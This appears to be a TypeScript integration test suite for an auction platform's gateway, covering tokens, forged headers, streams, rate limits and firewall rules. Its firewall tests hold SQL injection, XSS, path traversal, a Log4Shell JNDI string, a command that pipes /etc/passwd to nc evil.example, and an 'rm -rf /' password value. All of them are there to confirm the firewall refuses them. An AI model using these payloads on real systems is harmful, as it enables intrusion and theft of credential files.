import assert from 'node:assert/strict';
import { request } from 'node:https';
import { createClient } from 'graphql-ws';
import { WebSocket } from 'ws';
import { accountScenarios } from './account-scenarios.ts';
import type { Gateway, Scenario } from './gateway.ts';
import { pageScenarios } from './page-scenarios.ts';
import { bearer, command, forgeries, question, send, signedIn, tokenOf, tokensFor } from './people.ts';

const WALLETS = '{ wallets(first: 5) { edges { node { currency } } } }';
const isOpened = (text: string, currency: string): boolean => text.includes(`"${currency}"`);

const tokens: readonly Scenario[] = [
  [
    'a command with a token passes, is recorded, and is read back',
    async (gateway) => {
      const ann = await signedIn(gateway, 'ann');
      const opened = await command(gateway.front, 'wallets/open-wallet', { currency: 'USD' }, ann);
      assert.equal(opened.status, 200, opened.text);
      assert.equal(opened.headers.get('strict-transport-security'), 'max-age=31536000');
      const position = String(opened.body?.token ?? opened.body?.position);
      const query = `query ($at: Token) { wallets(atLeast: $at, first: 5) { edges { node { currency } } } }`;
      const read = await question(gateway.front, query, ann, { at: position });
      assert.ok(read.status === 200 && isOpened(read.text, 'USD'), read.text);
      const bid = { auctionId: 'none', maximum: { amount: '500', currency: 'USD' } };
      const refused = await command(gateway.front, 'auctions/place-bid', bid, ann);
      assert.deepEqual([refused.status, refused.body?.code], [404, 'auction_unknown'], refused.text);
    },
  ],
  [
    'tokens that nobody may take are stopped by KrakenD, and by the platform when they are sent past it',
    async (gateway) => {
      const control = bearer(await tokenOf(gateway, 'eve'));
      for (const origin of [gateway.front, gateway.platform])
        assert.equal(
          (await question(origin, '{ now }', control)).status,
          200,
          'they are right but for one thing',
        );
      for (const [what, token] of await forgeries(gateway)) {
        const [there, here] = await Promise.all(
          [gateway.front, gateway.platform].map((origin) =>
            command(origin, 'wallets/open-wallet', { currency: 'EUR' }, bearer(token)),
          ),
        );
        assert.deepEqual([there?.status, here?.status], [401, 401], what);
        assert.equal(there?.body?.code, undefined, `${what}: KrakenD has answered`);
        assert.equal(here?.body?.code, 'unauthenticated', `${what}: the platform has answered`);
        const asked = await question(gateway.api, WALLETS, bearer(token));
        assert.equal(asked.status, 401, `${what}, to GraphQL`);
      }
      const nobody = await command(gateway.front, 'wallets/open-wallet', { currency: 'EUR' });
      assert.equal(nobody.status, 401);
    },
  ],
  [
    'headers that claim what a gateway has found are worth nothing',
    async (gateway) => {
      const claims = {
        'x-user': 'ann',
        'x-authenticated': 'true',
        'x-roles': 'admin',
        'x-forwarded-user': 'ann',
        forwarded: 'for=203.0.113.9',
        'x-krakend-completed': 'true',
      };
      for (const origin of [gateway.front, gateway.api, gateway.platform]) {
        const { status } = await command(origin, 'wallets/open-wallet', { currency: 'EUR' }, claims);
        assert.equal(status, 401, origin);
      }
      // Past the check, by the way of those who have no token: none is sent on from there.
      const ann = await signedIn(gateway, 'ann');
      const passed = await send(`${gateway.api}/anonymous/graphql`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', accept: 'application/json', ...ann },
        body: JSON.stringify({ query: WALLETS }),
      });
      assert.match(passed.text, /"unauthenticated"/);
      const outside = await send(`${gateway.front}/anonymous/graphql`, { method: 'POST', headers: ann });
      assert.equal(outside.status, 404, 'and nobody comes to that way from outside');
    },
  ],
  [
    'whoever shows no token reads what is open to anybody, and no more',
    async ({ front }) => {
      const open = await question(front, '{ auctions(first: 1) { edges { node { id } } } }');
      assert.deepEqual([open.status, open.body?.errors], [200, undefined], open.text);
      assert.match((await question(front, WALLETS)).text, /"unauthenticated"/);
      const byUrl = await send(`${front}/graphql?query=${encodeURIComponent('{ currencies { code } }')}`, {
        headers: { accept: 'application/json' },
      });
      assert.equal(byUrl.status, 200, byUrl.text);
    },
  ],
  [
    'what belongs together is asked for once: account, wallets and bids at /me',
    async (gateway) => {
      const ann = await signedIn(gateway, 'ann');
      await command(gateway.front, 'wallets/open-wallet', { currency: 'CHF' }, ann);
      const { status, body, headers, text } = await send(`${gateway.front}/me`, { headers: ann });
      assert.equal(status, 200, text);
      assert.deepEqual(Object.keys(body ?? {}).sort(), ['account', 'myBids', 'wallets'], text);
      assert.ok(isOpened(text, 'CHF'));
      assert.equal(headers.get('x-krakend-completed'), 'true');
      assert.equal((await send(`${gateway.front}/me`)).status, 401);
    },
  ],
];

const feed = 'subscription { walletFeed { position entry { eventId } } }';

const streams: readonly Scenario[] = [
  [
    'a feed goes over a WebSocket through Caddy, by the token that is shown on it',
    async (gateway) => {
      const { access_token: token } = await tokensFor(gateway, 'wes');
      const url = `${gateway.front.replace('http', 'ws')}/graphql`;
      const client = createClient({
        ...{ url, webSocketImpl: WebSocket, retryAttempts: 0, connectionParams: bearer(token) },
      });
      const items = client.iterate({ query: feed });
      const next = items.next();
      const opened = await command(gateway.front, 'wallets/open-wallet', { currency: 'USD' }, bearer(token));
      assert.equal(opened.status, 200, opened.text);
      const { value } = await next;
      assert.ok(value?.data?.walletFeed !== undefined, JSON.stringify(value));
      await client.dispose();
      const stranger = createClient({
        ...{ url, webSocketImpl: WebSocket, retryAttempts: 0, connectionParams: bearer('nonsense') },
      });
      await assert.rejects(async () => {
        const answer = await stranger.iterate({ query: feed }).next();
        if (JSON.stringify(answer.value).includes('unauthenticated')) throw new Error('unauthenticated');
      });
      await stranger.dispose();
    },
  ],
  [
    'a feed goes as a stream of events, and each is there as it happens',
    async (gateway) => {
      const sue = await signedIn(gateway, 'sue');
      const leaving = new AbortController();
      const response = await fetch(`${gateway.front}/graphql`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', accept: 'text/event-stream', ...sue },
        body: JSON.stringify({ query: feed }),
        signal: leaving.signal,
      });
      assert.deepEqual(
        [response.status, response.headers.get('content-type')?.split(';')[0]],
        [200, 'text/event-stream'],
      );
      const opened = await command(gateway.front, 'wallets/open-wallet', { currency: 'USD' }, sue);
      assert.equal(opened.status, 200, opened.text);
      let heard = '';
      const giveUp = setTimeout(() => leaving.abort(), 10_000);
      for await (const chunk of response.body ?? []) {
        heard += Buffer.from(chunk).toString();
        if (heard.includes('"eventId"')) break;
      }
      clearTimeout(giveUp);
      leaving.abort();
      assert.match(heard, /"eventId"/);
    },
  ],
];

/** Sent as it stands: `fetch` would make another path of it. */
function rawStatus({ front }: Gateway, path: string): Promise<number> {
  const { hostname, port } = new URL(front);
  return new Promise((done, failed) => {
    const asked = request({ hostname, port, path, agent: false }, (response) =>
      done(response.resume().statusCode ?? 0),
    );
    asked.on('error', failed).end();
  });
}

const lot = (lotId: string, over: object) => ({
  lotId,
  title: 'Lot',
  description: '',
  categories: ['paintings'],
  pictures: [],
  estimateLow: { amount: '10000', currency: 'USD' },
  estimateHigh: { amount: '20000', currency: 'USD' },
  openingBid: { amount: '5000', currency: 'USD' },
  ...over,
});

const rules: readonly Scenario[] = [
  [
    'attacks that everybody knows are refused by the rules',
    async (gateway) => {
      const { front } = gateway;
      const ann = await signedIn(gateway, 'ann');
      const inside = encodeURIComponent;
      for (const path of [
        `/health/live?id=${inside("1' OR '1'='1' UNION SELECT password FROM users --")}`,
        `/health/live?q=${inside('<script>alert(document.cookie)</script>')}`,
        `/sign-in?next=${inside('../../../../etc/passwd')}`,
        '/../../../../etc/passwd',
        `/account?file=${inside('/etc/shadow')}`,
        `/health/live?x=${inside('$' + '{jndi:ldap://evil.example/a}')}`,
        `/health/live?cmd=${inside('; cat /etc/passwd | nc evil.example 4444')}`,
        '/.env',
        '/.git/config',
      ])
        assert.equal(await rawStatus(gateway, path), 403, path);
      for (const title of [
        "x' UNION SELECT email, password FROM accounts WHERE '1'='1",
        '<img src=x onerror=alert(document.cookie)>',
      ]) {
        const { status } = await command(front, 'auctions/consign-lot', lot('evil', { title }), ann);
        assert.equal(status, 403, title);
      }
      const scanner = await send(`${front}/health/live`, { headers: { 'user-agent': 'sqlmap/1.7' } });
      assert.equal(scanner.status, 403);
    },
  ],
  [
    'what people write is not: bids, French and Russian, apostrophes, passwords of any characters',
    async (gateway) => {
      const { front } = gateway;
      const seller = await signedIn(gateway, 'sam');
      const titles = [
        "L'Été à l'Estaque — huile sur toile, d'après Cézanne (vers 1880); cadre d'origine",
        'Пейзаж с рекой; холст, масло. Подпись справа внизу: «И. Левитан» (1893 г.)',
        `O'Keeffe's "Jimson Weed" -- oil & charcoal, 40" x 30"; a selection of works, two panels joined`,
        'Table & chairs <c. 1900>, 50% off? No: 100% original!',
        'The Sleep (1937); echo of Dalí\nProvenance: Mount Street, London; Select Gallery\nNice, private collection',
      ];
      for (const [at, title] of titles.entries()) {
        const pictures = ['https://pictures.example/a/b.jpg?size=large'];
        const said = await command(
          front,
          'auctions/consign-lot',
          lot(`lot-${at}`, { title, description: title, pictures }),
          seller,
        );
        assert.equal(said.status, 200, `${title}: ${said.text}`);
        assert.ok(said.text.includes(JSON.stringify(title).slice(1, -1)), 'as it was written');
      }
      const bid = { auctionId: 'open-1', maximum: { amount: '500', currency: 'USD' } };
      const placed = await command(front, 'auctions/place-bid', bid, seller);
      assert.equal(placed.body?.code, 'auction_unknown', placed.text);
      for (const password of [
        `' OR 1=1 --`,
        '<script>alert(1)</script>',
        '$(cat /etc/passwd); rm -rf /',
        'пароль"\\{}|`~',
      ]) {
        // Whatever stands behind that path by now, it is the platform that answers.
        for (const [type, body] of [
          ['application/json', JSON.stringify({ email: 'ann@example.org', password })],
          [
            'application/x-www-form-urlencoded',
            new URLSearchParams({
              email: 'ann@example.org',
              oldPassword: password,
              newPassword: password,
            }).toString(),
          ],
        ] as const) {
          const { status } = await send(`${front}/sign-in`, {
            method: 'POST',
            headers: { 'content-type': type },
            body,
          });
          assert.notEqual(status, 403, `${type}: ${password}`);
        }
      }
      const long = `query Q($first: Int = 5) { # a comment, with 'quotes' -- and dashes
        auctions(first: $first, text: "d'après") { edges { node { id title phase } } } }`;
      assert.equal((await question(front, long)).status, 200);
    },
  ],
  [
    'bodies that are too long are refused before anybody reads them',
    async (gateway) => {
      const ann = await signedIn(gateway, 'ann');
      for (const bytes of [200_000, 2_000_000]) {
        const { status } = await command(
          gateway.front,
          'wallets/open-wallet',
          { currency: 'x'.repeat(bytes) },
          ann,
        );
        assert.equal(status, 413, `${bytes} bytes`);
      }
    },
  ],
  [
    'what is for the operator, and for development, is not outside',
    async ({ front, platform }) => {
      assert.equal(
        (await send(`${platform}/metrics`)).status,
        200,
        'in development the platform has it on its port',
      );
      for (const path of [
        '/metrics',
        '/docs',
        '/openapi.json',
        '/asyncapi.json',
        '/dev/tokens',
        '/dev/outbox',
        '/__health',
        '/__debug/x',
      ])
        assert.equal((await send(front + path)).status, 404, path);
      assert.equal((await send(`${front}/health/ready`)).status, 200);
    },
  ],
  [
    'people count by their own address, whatever they say of it',
    async (gateway) => {
      const ann = await signedIn(gateway, 'ann');
      const said = { ...ann, 'x-forwarded-for': '203.0.113.9' };
      const { status } = await command(gateway.front, 'wallets/open-wallet', { currency: 'JPY' }, said);
      assert.equal(status, 200);
      const ines = bearer(await gateway.people.devToken('ines', 'investigator'));
      const query = '{ allEvents { events { type origin { address } } } }';
      const { text } = await question(gateway.platform, query, ines);
      assert.doesNotMatch(text, /203\.0\.113\.9/);
      assert.match(text, /127\.0\.0\.1/);
    },
  ],
  [
    'one address has its part of what KrakenD lets through',
    async (gateway) => {
      const ann = await signedIn(gateway, 'ann');
      const all = await Promise.all(
        Array.from({ length: 300 }, () => question(gateway.front, '{ now }', ann)),
      );
      const statuses = new Set(all.map(({ status }) => status));
      assert.ok(statuses.has(200) && statuses.has(429), [...statuses].join());
    },
  ],
];

export const scenarios: readonly Scenario[] = [
  ...tokens,
  ...streams,
  ...accountScenarios,
  ...pageScenarios,
  ...rules,
];
